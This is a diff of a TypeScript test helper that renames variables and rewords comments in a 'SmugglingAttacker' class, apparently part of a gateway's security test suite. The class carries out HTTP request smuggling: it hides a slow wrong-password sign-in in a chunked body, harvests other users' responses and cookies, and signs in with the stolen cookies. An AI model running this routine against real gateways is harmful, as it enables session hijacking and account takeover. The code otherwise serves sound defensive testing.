@@ -2,9 +2,9 @@ import { Person } from '../../builders/people/person.ts';
 import { headerOf, type RawResponse } from './raw-response.ts';
 import { RawConnection } from './raw-connection.ts';
 
-const ownFile = '/realms/struma/resources/sign-in.css';
-const carrier = '/realms/struma/protocol/openid-connect/auth?client_id=nobody';
-const ownName = 'attacker-without-an-account';
+const publicFile = '/realms/struma/resources/sign-in.css';
+const carrierPath = '/realms/struma/protocol/openid-connect/auth?client_id=nobody';
+const attackerName = 'attacker-without-an-account';
 
 /**
  * An attacker without an account who hides a request in the body of another one. If the gateway writes that body to a
@@ -30,14 +30,14 @@ export class SmugglingAttacker {
     const visitor = new Person(address);
     const page = await visitor.follow('/auth/login');
     await page.body?.cancel();
-    return new SmugglingAttacker(address, method, passwordOf(new URL(page.url), visitor.cookies));
+    return new SmugglingAttacker(address, method, createWrongSignIn(new URL(page.url), visitor.cookies));
   }
 
-  /** Sends the request whose body hides the other one. The body is sent only if the gateway asks for it (100 Continue). */
+  /** Sends a request that hides another one in its body. Sends the body only after `100 Continue` of the gateway. */
   async strike(): Promise<void> {
     const connection = await this.#send(
       this.#method,
-      carrier,
+      carrierPath,
       'Transfer-Encoding: chunked\r\nExpect: 100-continue\r\n',
     );
     if (await connection.isContinued())
@@ -46,10 +46,13 @@ export class SmugglingAttacker {
     connection.close();
   }
 
-  /** Requests a file of the sign-in page repeatedly, and keeps the first line and the cookies of each response that belongs to another request. */
+  /**
+   * Requests a file of the sign-in page repeatedly. Keeps the first line and the cookies of each response that belongs
+   * to another request.
+   */
   async collect(): Promise<void> {
     for (let round = 0; round < 4; round += 1) {
-      const connection = await this.#send('GET', ownFile);
+      const connection = await this.#send('GET', publicFile);
       const answer = await connection.next();
       connection.close();
       if (!answer || isOwn(answer)) continue;
@@ -59,7 +62,7 @@ export class SmugglingAttacker {
     }
   }
 
-  /** Uses the stolen cookies; returns the person's name, null if it failed. */
+  /** Signs in with the stolen cookies. Returns the name of the signed-in person, null if the sign-in failed. */
   async signInWithStolenCookies(): Promise<string | null> {
     const person = new Person(this.#address, this.#stolen);
     await (await person.follow('/auth/login')).body?.cancel();
@@ -74,11 +77,11 @@ export class SmugglingAttacker {
 }
 
 /**
- * Sends a wrong password in the attacker's own form: its check takes the provider so long that a victim's request is
- * queued behind it.
+ * Returns a request that sends a wrong password in the attacker's own sign-in form. The provider needs so long to check
+ * the password that a victim's request is queued behind this one.
  */
-const passwordOf = (form: URL, cookies: ReadonlyMap<string, string>): string => {
-  const body = `username=${ownName}&password=wrong`;
+const createWrongSignIn = (form: URL, cookies: ReadonlyMap<string, string>): string => {
+  const body = `username=${attackerName}&password=wrong`;
   return [
     `POST ${form.pathname}${form.search} HTTP/1.1`,
     `Host: ${form.host}`,
@@ -92,7 +95,7 @@ const passwordOf = (form: URL, cookies: ReadonlyMap<string, string>): string => 
 };
 
 const isOwn = (answer: RawResponse): boolean =>
-  headerOf(answer, 'content-type').startsWith('text/css') || answer.body.includes(ownName);
+  headerOf(answer, 'content-type').startsWith('text/css') || answer.body.includes(attackerName);
 
 /** Reads the name of the signed-in person; null if nobody is signed in. */
 export const signedInName = async (person: Person): Promise<string | null> => {
